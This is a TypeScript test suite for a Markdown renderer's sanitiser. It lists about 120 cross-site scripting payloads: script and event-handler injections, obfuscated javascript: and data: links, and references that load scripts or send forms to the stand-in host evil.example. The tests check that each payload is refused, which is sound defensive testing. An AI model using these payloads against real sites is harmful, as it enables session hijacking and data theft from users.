import fc from 'fast-check';
import { expect, test } from 'vitest';
import { inspectBody } from '../inspect.ts';
import { assertSafe } from '../../testing/assert-safe.ts';
import { renderBody } from './render-body.ts';
import { sampleOptions } from '../../testing/sample-options.ts';

const options = sampleOptions({
  picture: () => null,
  sources: [{ id: 's', title: '<img src=x onerror=1>', url: 'javascript:1' }],
});

/** Attacks by raw HTML: each must also be reported by the check. */
const HTML_VECTORS = [
  '<script>alert(1)</script>',
  'a <script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<script\n>alert(1)</script\n>',
  '<script/x>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<style>@import "//evil.example";</style>',
  '<style>*{background:url(//evil.example)}</style>',
  '<form action="//evil.example"><input name=a><button>b</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<isindex action="javascript:alert(1)">',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://a.example" target=_blank ping="//evil.example">x</a>',
  '<b onclick=alert(1)>x</b>',
  '<b ONCLICK=alert(1)>x</b>',
  '<b\tonclick=alert(1)>x</b>',
  '<b title="x" onmouseover="alert(1)">x</b>',
  "<b title='\"><script>alert(1)</script>' class=x>x</b>",
  '<span style="background:url(javascript:alert(1))">x</span>',
  '<span style="position:fixed;inset:0">x</span>',
  '<span class="appeal" id="main">x</span>',
  '<span is="x-y">x</span>',
  '<span dir="ltr" lang="&quot;onclick=alert(1)">x</span>',
  '<time datetime="<script>">x</time>',
  '<constructor class=x>x</constructor>',
  '<hasOwnProperty>x</hasOwnProperty>',
  '<x-custom onclick=alert(1)>x</x-custom>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><script>alert(1)</script>',
  '<title><script>alert(1)</script></title>',
  '<plaintext><script>alert(1)',
  '<xmp><script>alert(1)</script></xmp>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><script>alert(1)</script>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<!DOCTYPE html [<!ENTITY x "y">]>',
  '<h1 id=x>x</h1>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<p>x</p></div></article><script>alert(1)</script>',
  '</article>',
  '> <script>alert(1)</script>',
  '- <img src=x onerror=alert(1)>',
  '| <img src=x onerror=alert(1)> |\n|-|',
  '[^n]\n\n[^n]: <img src=x onerror=alert(1)>',
  '[<img src=x onerror=alert(1)>](https://a.example)',
  '## <img src=x onerror=alert(1)>',
];

/** Attacks by addresses: each must be refused by the check. */
const LINK_VECTORS = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](<java&#10;script:alert(1)>)',
  '[x](java&Tab;script:alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#1;javascript:alert(1))',
  '[x](<&#32;javascript:alert(1)>)',
  '[x](javascript\\:alert(1))',
  '[x](vbscript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](//evil.example)',
  '[x](\\\\\\\\evil.example)',
  '[x](/\\\\evil.example)',
  '[x](file:///etc/passwd)',
  '<javascript:alert(1)>',
  '[x]\n\n[x]: javascript:alert(1)',
  '[x][y]\n\n[Y]: <data:text/html,x> "t"',
  '[x](javascript:alert(1) "title")',
  '[**x**](javascript:alert(1))',
  '[x](intent://x#Intent;end)',
  '[x](https://bank.example@evil.example)',
];

/** What Markdown takes for text, and attacks on what is around it. */
const OTHER_VECTORS = [
  '<img/src=x/onerror=alert(1)>',
  '<img src="x" `onerror=alert(1)>',
  '<b/onclick=alert(1)>x</b>',
  '[x](&#106avascript&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
  '![x"onerror="alert(1)](a.jpg)',
  '![x](a.jpg "\\"onerror=alert(1)")',
  '![x](//evil.example/a.jpg)',
  '[x](https://a.example "\\" onclick=\\"alert(1)")',
  '[x](https://a.example/"onclick="alert)',
  '[x](<https://a.example/"onclick=alert(1)>)',
  '`<script>alert(1)</script>`',
  '```html"onclick=alert(1)\n<script>alert(1)</script>\n```',
  '    <script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\<script>alert(1)\\</script>',
  '# x" onclick="alert(1)',
  '| a" onclick="x |\n|-|',
  '[^s] [^"><img src=x onerror=alert(1)>]',
  '[x](#"onclick="alert(1))',
  '<b',
  '<b title="',
  '<b title="x\n\n<script>alert(1)</script>">',
];

test('the corpus is large enough', () => {
  expect(HTML_VECTORS.length + LINK_VECTORS.length + OTHER_VECTORS.length).toBeGreaterThan(100);
});

test.each(HTML_VECTORS)('raw HTML %j is reported and not rendered', (markdown) => {
  assertSafe(renderBody(markdown, options));
  expect(inspectBody(markdown).html.some(({ allowed }) => !allowed)).toBe(true);
});

test.each(LINK_VECTORS)('link %j is reported and not rendered', (markdown) => {
  const html = renderBody(markdown, options);
  assertSafe(html);
  expect(html.slice(0, html.indexOf('<section'))).not.toContain('href');
  expect(inspectBody(markdown).links.some(({ refused }) => refused !== undefined)).toBe(true);
});

test.each(OTHER_VECTORS)('%j is safe', (markdown) => {
  assertSafe(renderBody(markdown, options));
});

const PIECES = fc.constantFrom(
  ...[
    '<',
    '>',
    '</',
    '<!--',
    '-->',
    '<b',
    '<script',
    '<svg',
    ' on',
    'click=',
    '"',
    "'",
    '=',
    '`',
    '*',
    '_',
    '~',
    '[',
    '](',
    ')',
    '![',
    '[^',
    ']:',
    '\n',
    '\n\n',
    '    ',
    '> ',
    '- ',
    '|',
    '|-|',
    '#',
    '&',
    '&#x3c;',
    '&colon;',
    'javascript:',
    'https://a.b',
    '//',
    '\\',
    '\t',
    '\0',
    '\u202e',
    '\ud800',
    'lang=',
    'a',
    'ж',
    ' ',
  ],
  ...HTML_VECTORS,
);

test('no string throws or yields anything forbidden', () => {
  fc.assert(
    fc.property(fc.array(PIECES, { maxLength: 40 }), fc.string(), (pieces, tail) => {
      const markdown = pieces.join('') + tail;
      assertSafe(renderBody(markdown, options));
      inspectBody(markdown);
    }),
    { numRuns: 1_000 },
  );
});

test('what the check calls allowed, the page shows', () => {
  expect(renderBody('<kbd>x</kbd>', options)).toContain('<kbd>');
});
